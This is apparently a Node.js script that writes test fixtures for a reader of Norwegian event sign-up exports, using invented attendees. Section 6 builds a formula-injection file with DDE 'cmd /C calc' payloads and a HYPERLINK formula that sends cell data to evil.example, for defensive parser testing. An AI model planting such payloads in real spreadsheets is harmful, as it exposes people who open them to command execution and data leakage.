// Writes the reader fixtures under fixtures/ (committed; run again only to change them):
//   node scripts/make-fixtures.mjs
// Synthetic people only: invented names, e-mails at example.org, fake phone numbers (400 00 0NN).
// The files copy the layouts real sign-up tools export: see fixtures/README.md.
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import iconv from 'iconv-lite';
import ExcelJS from 'exceljs';

const dir = new URL('../fixtures/', import.meta.url);
mkdirSync(new URL('bad/', dir), { recursive: true });
const write = (name, data) => writeFileSync(new URL(name, dir), data);

/** CSV the way Google Sheets / Excel write it: quotes only when a cell needs them. */
const cell = (v, d) => (/["\r\n]/.test(v) || v.includes(d) ? `"${v.replaceAll('"', '""')}"` : v);
const csv = (rows, d = ',', eol = '\r\n', quoteAll = false) =>
  rows.map((r) => r.map((v) => (quoteAll ? `"${v.replaceAll('"', '""')}"` : cell(v, d))).join(d)).join(eol) + eol;

// 1. Google Forms responses sheet, downloaded as CSV: UTF-8 with BOM, CRLF, comma.
const googleHeaders = [
  'Tidsmerke', 'E-postadresse', 'Namn ', 'Kommune', 'Stilling ', 'Telefonnummer', 'Deltaking',
  'Ønskjer du overnatting 11.–12. november?',
  'Treng du overnatting 10.–11. november på grunn av lang reiseveg?',
  'Deltek du på toppleiarforum?', 'Allergiar eller andre behov ',
];
// prettier-ignore
const google = [
  ['01.09.2021 kl. 09.12.44', 'ingrid.haland@example.org', 'Ingrid Håland', 'Ørsta', 'Ordførar', '400 00 001', 'Fysisk', 'Ja', 'Nei', 'Ja', ''],
  ['01.09.2021 kl. 10.03.10', 'sindre.vik@example.org', 'Sindre Vik', 'Ørsta kommune', 'Rådgjevar klima', '400 00 002', 'Fysisk', 'Ja', 'Nei', 'Nei', 'Laktosefri'],
  ['02.09.2021 kl. 14.22.05', 'aase.brekke@example.org', 'Åse Brekke', 'Orsta', 'Innkjøpsleiar', '400 00 003', 'Fysisk', 'Ja', 'Ja', 'Nei', ''],
  ['02.09.2021 kl. 15.40.00', 'kristin.hovden@example.org', 'Kristin Hovden', 'Volda', 'Kommunedirektør', '400 00 004', 'Fysisk', 'Ja', 'Ja', 'Ja', ''],
  ['03.09.2021 kl. 08.45.00', 'eirik.saetre@example.org', 'Eirik Sætre', 'Ørsta', 'Arealplanleggar', '400 00 005', 'Fysisk', 'Ja', 'Nei', 'Nei', ''],
  ['03.09.2021 kl. 11.02.31', 'hakon.langva@example.org', 'Håkon Langva', 'Alesund', 'Klimarådgjevar', '400 00 006', 'Fysisk', 'Ja', 'Ja', 'Nei', ''],
  ['03.09.2021 kl. 12.00.00', 'trond.lid@example.org', 'Trond Lid', 'Molde', 'Rådgjevar', '400 00 007', 'Fysisk', 'Nei', 'Nei', 'Nei', ''],
  ['04.09.2021 kl. 09.00.12', 'silje.vestre@example.org', 'Silje Vestre', 'Ålesund kommune', 'Einingsleiar eigedom', '400 00 008', 'Fysisk', 'Nei', 'Nei', 'Nei', 'Bur i Ålesund, treng ikkje rom'],
  ['05.09.2021 kl. 13.14.15', 'perove.strand@example.org', 'Per Ove Strand', 'Ørskog', 'Rådgjevar', '400 00 009', 'Fysisk', 'Ja', 'Nei', 'Nei', ''],
  ['06.09.2021 kl. 11.30.12', 'marit.ovrebo@example.org', 'Marit Øvrebø', 'Ørsta', 'Landbrukssjef', '400 00 010', 'Fysisk', 'Ja', 'Nei', 'Nei', 'Nøtteallergi'],
  ['06.09.2021 kl. 16.20.45', 'gunnhild.aaro@example.org', 'Gunnhild Aarø', 'Fræna', 'Næringssjef', '+47 400 00 011', 'Fysisk', 'Ja', 'Nei', 'Nei', ''],
  ['07.09.2021 kl. 13.01.59', 'oddbjorn.myklebust@example.org', 'Oddbjørn Myklebust', 'ørsta', 'Byggesakshandsamar', '400 00 012', 'Fysisk', 'Ja', 'Nei', 'Nei', ''],
  ['', '', '', '', '', '', '', '', '', '', ''],
  ['08.09.2021 kl. 10.10.10', 'lars.riise@example.org', 'Lars Riise', 'Volda kommune', 'Miljøvernrådgjevar', '400 00 013', 'Fysisk', 'Ja', 'Nei', 'Nei', 'Vegetar.\nMå reise kl. 11 fredag.'],
  ['08.09.2021 kl. 14.00.00', 'sunniva.ose@example.org', 'Sunniva Øse', 'Sykkylven', 'Klimarådgjevar', '400 00 014', 'Fysisk', 'Ja', 'Nei', 'Nei', ''],
  ['09.09.2021 kl. 09.30.00', 'jonas.furset@example.org', 'Jonas Furset', 'Kristiansand', 'Klimarådgjevar', '400 00 015', 'Fysisk', 'Ja', 'Ja', 'Nei', ''],
  ['09.09.2021 kl. 11.11.11', 'hilde.skeie@example.org', 'Hilde Skeie', 'Bergen kommune', 'Rådgjevar', '400 00 016', 'Fysisk', 'Ja', 'Nei', 'Nei', ''],
  ['09.09.2021 kl. 15.45.12', 'TROND.LID@example.org ', 'Trond Lid', 'Molde', 'Rådgjevar', '400 00 007', 'Fysisk', 'Ja', 'Nei', 'Nei', 'Rettar: eg treng rom likevel'],
  ['10.09.2021 kl. 08.05.00', 'tone.gjerde@example.org', 'Tone Gjerde', 'Møre og Romsdal fylkeskommune', 'Seniorrådgjevar', '400 00 017', 'Fysisk', 'Ja', 'Nei', 'Nei', ''],
  ['10.09.2021 kl. 08.30.00', 'arne.ulvestad@example.org', 'Arne Ulvestad', 'Statsforvaltaren i Møre og Romsdal', 'Miljøverndirektør', '400 00 018', 'Fysisk', 'Ja', 'Nei', 'Nei', ''],
  ['11.09.2021 kl. 19.12.00', 'randi.liavag@example.org', 'Randi Liavåg', 'Sula', 'Rådgjevar', '400 00 019', 'Digitalt', '', '', 'Nei', ''],
  ['12.09.2021 kl. 10.00.00', 'eli.bakken@example.org', 'Eli Bakken', 'Vestnes', 'Plansjef', '400 00 020', 'Fysisk', 'Ja', 'Nei', 'Nei', ''],
  ['12.09.2021 kl. 12.34.56', 'vegard.nerland@example.org', 'Vegard Nerland', 'Kristiansund', 'Rådgjevar', '400 00 021', 'Fysisk', 'Ja', 'Ja', 'Nei', ''],
  ['13.09.2021 kl. 09.09.09', 'liv.ranes@example.org', 'Liv Ranes', 'Sunndal', 'Innkjøpar', '400 00 022', 'Fysisk', 'Ja', 'Ja', 'Nei', 'Glutenfri'],
  ['13.09.2021 kl. 14.14.14', 'magne.halse@example.org', 'Magne Halse', 'Surnadal', 'Rådgjevar, klima og miljø', '400 00 023', 'Fysisk', 'Ja', 'Ja', 'Nei', ''],
  ['14.09.2021 kl. 08.00.00', 'anne.dyb@example.org', 'Anne Dyb', 'Stranda', 'Ordførar', '400 00 024', 'Fysisk', 'Ja', 'Nei', 'Ja', ''],
  ['14.09.2021 kl. 16.40.00', 'kare.bigset@example.org', 'Kåre Bigset', 'Hareid', 'Næringsrådgjevar', '400 00 025', 'Fysisk', 'Ja', 'Nei', 'Nei', ''],
  ['15.09.2021 kl. 22.10.00', 'solveig.hoem@example.org', 'Solveig Hoem', 'Aukra', 'Byggdriftsleiar', '400 00 026', 'Fysisk', 'Ja', 'Nei', 'Nei', ''],
  ['15.09.2021 kl. 23.59.59', 'bente.myren@example.org', 'Bente Myren', 'Herøy', 'Klimakoordinator', '400 00 027', 'Fysisk', 'Ja', 'Ja', 'Nei', ''],
  ['16.09.2021 kl. 00.00.01', 'ole.godo@example.org', 'Ole Godø', 'Giske', 'Rådgjevar', '400 00 028', 'Fysisk', 'Ja', 'Nei', 'Nei', ''],
  ['20.09.2021 kl. 08.15.30', 'kjersti.romsdal@example.org', 'Kjersti Romsdal', 'Rauma', 'Prosjektleiar klima', '400 00 029', 'Fysisk', 'Ja', 'Ja', 'Nei', ''],
];
write('google-forms-nn.csv', '\uFEFF' + csv([googleHeaders, ...google]));

// 2. Microsoft Forms "Open in Excel" export: system columns, then the questions (Bokmål), date cells.
const oslo = (y, mo, d, h, mi, s = 0) => new Date(Date.UTC(y, mo - 1, d, h, mi, s)); // wall clock, as exceljs wants
async function workbook(file, sheets) {
  const wb = new ExcelJS.Workbook();
  wb.creator = 'Microsoft Forms';
  wb.created = wb.modified = new Date(Date.UTC(2021, 8, 21));
  for (const { name, rows } of sheets) {
    const ws = wb.addWorksheet(name);
    for (const r of rows) ws.addRow(r);
    ws.eachRow((row) => row.eachCell((c) => { if (c.value instanceof Date) c.numFmt = 'm/d/yy h:mm:ss'; }));
  }
  write(file, Buffer.from(await wb.xlsx.writeBuffer()));
}
const msHeaders = ['ID', 'Start time', 'Completion time', 'Email', 'Name', 'Navn', 'E-post', 'Kommune', 'Stilling',
  'Trenger du overnatting 11.–12. november?', 'Trenger du overnatting 10.–11. november (lang reisevei)?'];
const anon = 'anonymous';
// prettier-ignore
await workbook('microsoft-forms.xlsx', [{ name: 'Sheet1', rows: [msHeaders,
  [1, oslo(2021, 9, 2, 8, 1, 10), oslo(2021, 9, 2, 8, 4, 55), anon, anon, 'Bjørn Tande', 'bjorn.tande@example.org', 'Molde kommune', 'Virksomhetsleder', 'Ja', 'Nei'],
  [2, oslo(2021, 9, 6, 12, 0, 0), oslo(2021, 9, 6, 12, 3, 30), anon, anon, 'Hanne Rø', 'hanne.ro@example.org', 'Smøla', 'Rådgiver klima', 'Ja', 'Ja'],
  [3, oslo(2021, 9, 10, 9, 15, 0), oslo(2021, 9, 10, 9, 21, 2), anon, anon, 'Tor Einar Hol', 'toreinar.hol@example.org', 'Gjemnes', 'Teknisk sjef', 'Nei', 'Nei'],
  [4, oslo(2021, 9, 14, 9, 58, 0), oslo(2021, 9, 14, 10, 0, 0), anon, anon, 'Eli Bakken', 'Eli.Bakken@example.org', 'Vestnes', 'Plansjef', 'Ja', 'Ja'],
  [5, oslo(2021, 9, 14, 20, 0, 0), oslo(2021, 9, 14, 20, 2, 45), anon, anon, 'Lise Ulstein', 'lise.ulstein@example.org', 'Ulstein kommune', 'Innkjøpsrådgiver', 'Ja', 'Nei'],
  [6, oslo(2021, 9, 15, 23, 26, 2), oslo(2021, 9, 15, 23, 30, 0), anon, anon, 'Ragnhild Sande', 'ragnhild.sande@example.org', 'Averøy', 'Miljøkonsulent', 'Ja', 'Nei'],
  [7, oslo(2021, 9, 16, 7, 55, 0), oslo(2021, 9, 16, 8, 2, 40), anon, anon, 'Stian Eik', 'stian.eik@example.org', 'Tingvoll', 'Landbruksrådgiver', 'Ja', 'Ja'],
]}]);
const nbHeaders = ['ID', 'Starttidspunkt', 'Fullføringstidspunkt', 'E-postadresse', 'Navn', 'Kommune', 'Stilling',
  'Trenger du overnatting 11.–12. november?', 'Trenger du overnatting 10.–11. november (lang reisevei)?', 'Deltar du på toppleiarforum?'];
// prettier-ignore
await workbook('microsoft-forms-nb.xlsx', [{ name: 'Ark1', rows: [nbHeaders,
  [1, oslo(2021, 9, 3, 10, 0, 0), oslo(2021, 9, 3, 10, 6, 12), 'gro.sande@example.org', 'Gro Sande', 'Sande', 'Ordfører', 'Ja', 'Ja', 'Ja'],
  [2, oslo(2021, 9, 8, 13, 20, 0), oslo(2021, 9, 8, 13, 24, 9), 'knut.ramstad@example.org', 'Knut Ramstad', 'Fjord kommune', 'Kommunedirektør', 'Ja', 'Ja', 'Ja'],
  [3, oslo(2021, 9, 15, 23, 50, 0), oslo(2021, 9, 15, 23, 59, 59), 'heidi.tafjord@example.org', 'Heidi Tafjord', 'Fjord', 'Rådgiver', 'Ja', 'Nei', 'Nei'],
  [4, oslo(2021, 9, 16, 0, 0, 0), oslo(2021, 9, 16, 0, 0, 30), 'jan.aure@example.org', 'Jan Aure', 'Aure', 'Miljøvernleder', 'Ja', 'Nei', 'Nei'],
]}, { name: 'Oppsummering', rows: [['Antall svar', 4]] }]);

// 3. Nettskjema: ';', every field quoted, system columns with '$', variable names, answers 0/1.
// prettier-ignore
write('nettskjema.csv', csv([
  ['$submission_id', '$created', 'fornavn', 'etternavn', 'epost', 'kommune', 'stilling', 'overnatting', 'ekstra_natt', 'toppleiar', 'deltaking'],
  ['18273645', '2021-09-01T10:15:00+02:00', 'Gro', 'Solheim', 'gro.solheim@example.org', 'Fjord', 'Rådgiver', '1', '0', '0', 'fysisk'],
  ['18274001', '2021-09-05T14:30:00+02:00', 'Mette', 'Dale', 'mette.dale@example.org', 'Herøy', 'Miljøkoordinator', '0', '0', '0', 'digitalt'],
  ['18274410', '2021-09-10T08:00:00+02:00', 'Hans', 'Ulla', 'hans.ulla@example.org', 'Sande', 'Ordfører', '1', '0', '1', 'fysisk'],
  ['18274702', '2021-09-12T09:00:00+02:00', 'Jon', 'Ås', 'jon.as@example.org', 'Aure', 'Klimarådgiver', '1', '0', '0', 'fysisk'],
  ['18275550', '2021-09-15T23:59:59+02:00', 'Nils', 'Fiske', 'nils.fiske@example.org', 'Sykkylven', 'Planlegger', '1', '1', '0', 'fysisk'],
  ['18275551', '2021-09-15T22:00:00Z', 'Kari', 'Brun', 'kari.brun@example.org', 'Vanylven', 'Næringssjef', '1', '1', '0', 'fysisk'],
], ';', '\n', true));

// 4. An event system's list opened in Excel and saved as "CSV (semikolondelt)": Windows-1252, ';', CRLF.
// Excel quotes nothing here: "Rådgiver, klima" holds a bare comma; the en dash is 0x96 in Windows-1252.
// prettier-ignore
write('event-system-1252.csv', iconv.encode(csv([
  ['Registrert', 'Fornavn', 'Etternavn', 'E-post', 'Organisasjon', 'Tittel', 'Status', 'Overnatting'],
  ['01.09.2021 09:30', 'Åsmund', 'Øye', 'asmund.oye@example.org', 'Smøla kommune', 'Rådgiver – miljø', 'Påmeldt', 'Ja'],
  ['02.09.2021 13:05', 'Bjørg', 'Lønseth', 'bjorg.lonseth@example.org', 'Averøy kommune', 'Innkjøpssjef', 'Avmeldt', 'Ja'],
  ['03.09.2021 10:00', 'Kjell', 'Åsen', 'kjell.asen@example.org', 'Aure kommune', 'Rådgiver, klima', 'Påmeldt', 'Ja'],
  ['07.09.2021 15:20', 'Frøydis', 'Næss', 'froydis.naess@example.org', 'Tingvoll kommune', 'Kommunedirektør', 'Påmeldt', 'Ja'],
  ['14.09.2021 23:59', 'Ørjan', 'Ødegård', 'orjan.odegard@example.org', 'Gjemnes kommune', 'Planlegger', 'Påmeldt', 'Nei'],
  ['15.09.2021 12:00', 'René', 'Sørli', 'rene.sorli@example.org', 'Hustadvika kommune', 'Miljøvernleder', 'Påmeldt', 'Ja'],
  ['17.09.2021 08:00', 'Signe', 'Hæreid', 'signe.haereid@example.org', 'Sykkylven kommune', 'Miljøkoordinator', 'Påmeldt', 'Ja'],
], ';'), 'windows-1252'));

// 5. Bad inputs.
write('bad/empty.csv', '');
write('bad/old.xls', Buffer.concat([Buffer.from('D0CF11E0A1B11AE1', 'hex'), Buffer.alloc(504)]));
write('bad/broken-quote.csv', [
  'Tidsmerke,E-postadresse,Namn,Kommune,Ønskjer du overnatting 11.–12. november?',
  '01.09.2021 kl. 09.00.00,nora.lie@example.org,Nora Lie,Volda,Ja',
  '02.09.2021 kl. 10.00.00,even.moe@example.org,Even Moe,Ørsta,Ja',
  '03.09.2021 kl. 11.00.00,synne.berg@example.org,"Synne Berg,Molde,Ja',
  '04.09.2021 kl. 12.00.00,rolf.lunde@example.org,Rolf Lunde,Rauma,Ja',
  '05.09.2021 kl. 13.00.00,mari.eide@example.org,Mari Eide,Sula,Nei',
].join('\r\n') + '\r\n');
write('bad/no-name-column.csv', csv([
  ['Tidsmerke', 'E-postadresse', 'Kommune', 'Ønskjer du overnatting 11.–12. november?'],
  ['01.09.2021 kl. 09.00.00', 'nora.lie@example.org', 'Volda', 'Ja'],
  ['02.09.2021 kl. 10.00.00', 'even.moe@example.org', 'Ørsta', 'Ja'],
]));
write('bad/no-municipality-column.csv', csv([
  ['Tidsmerke', 'E-postadresse', 'Namn', 'Ønskjer du overnatting 11.–12. november?'],
  ['01.09.2021 kl. 09.00.00', 'nora.lie@example.org', 'Nora Lie', 'Ja'],
  ['02.09.2021 kl. 10.00.00', 'even.moe@example.org', 'Even Moe', 'Ja'],
]));
write('bad/not-a-zip.xlsx', '<html><body><table><tr><td>Namn</td><td>Kommune</td></tr>' +
  '<tr><td>Nora Lie</td><td>Volda</td></tr></table></body></html>\n');

// 6. Formula injection: the public payloads (last one keeps its leading tab), one starting with CR,
// one starting with ';', as names; a few more as organisations.
const payloads = readFileSync(new URL('../../shared/data/csv-injection-payloads.txt', import.meta.url), 'utf8')
  .split('\n').filter((l) => l !== '').map((l) => l.replace(/\r$/, ''));
payloads.push("\r=cmd|' /C calc'!A0", ";=cmd|' /C calc'!A0");
const region = ['Ålesund', 'Ørsta', 'Volda', 'Molde', 'Kristiansund', 'Vanylven', 'Sande', 'Herøy', 'Ulstein',
  'Hareid', 'Stranda', 'Sykkylven', 'Sula', 'Giske', 'Vestnes', 'Rauma', 'Aukra', 'Averøy', 'Gjemnes', 'Tingvoll',
  'Sunndal', 'Surnadal', 'Smøla', 'Aure', 'Fjord', 'Hustadvika'];
const injRows = payloads.map((p, i) => [`01.09.2021 kl. 10.${String(i).padStart(2, '0')}.00`,
  `injeksjon${String(i + 1).padStart(2, '0')}@example.org`, p, region[i % region.length], 'Rådgjevar', 'Ja', 'Nei']);
['=HYPERLINK("http://evil.example/"&A1;"Klikk")', '@SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3+cmd|\'/C calc\'!A1']
  .forEach((p, i) => injRows.push([`02.09.2021 kl. 11.0${i}.00`, `organisasjon${i + 1}@example.org`,
    `Testperson Nummer${i + 1}`, p, 'Rådgjevar', 'Ja', 'Nei']));
write('injection.csv', '\uFEFF' + csv([['Tidsmerke', 'E-postadresse', 'Namn', 'Kommune', 'Stilling',
  'Ønskjer du overnatting 11.–12. november?', 'Treng du overnatting 10.–11. november på grunn av lang reiseveg?'],
...injRows]));

// 7. Small delimited files: tab (.tsv), pipe (.txt), and UTF-16 LE with BOM (Excel's "Unicode text").
write('small-tsv.tsv', csv([
  ['Fornavn', 'Etternavn', 'Kommune', 'Overnatting'],
  ['Tuva', 'Øien', 'Sula', 'Ja'],
  ['Håvard', 'Lied', 'Giske', 'Nei'],
  ['Sigrid', 'Ravn', 'Rauma', 'Ja'],
], '\t', '\n'));
write('pipes.txt', csv([
  ['Navn', 'E-post', 'Kommune', 'Registrert', 'Overnatting'],
  ['Astrid Fjørtoft', 'astrid.fjortoft@example.org', 'Giske', '10.09.2021 14:00', 'Ja'],
  ['Bård Ekre', 'bard.ekre@example.org', 'Ålesund', '11.09.2021 09:30', 'Nei'],
], '|', '\n'));
write('utf16.csv', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(csv([
  ['Navn', 'E-post', 'Kommune', 'Registrert', 'Overnatting'],
  ['Ståle Ørnes', 'stale.ornes@example.org', 'Ørsta', '09.09.2021 08:00', 'Ja'],
  ['Æsa Blåfjell', 'aesa.blafjell@example.org', 'Smøla', '10.09.2021 09:00', 'Ja'],
  ['Åge Lø', 'age.lo@example.org', 'Averøy', '11.09.2021 10:00', 'Nei'],
], '\t'), 'utf16le')]));
console.log('fixtures written');
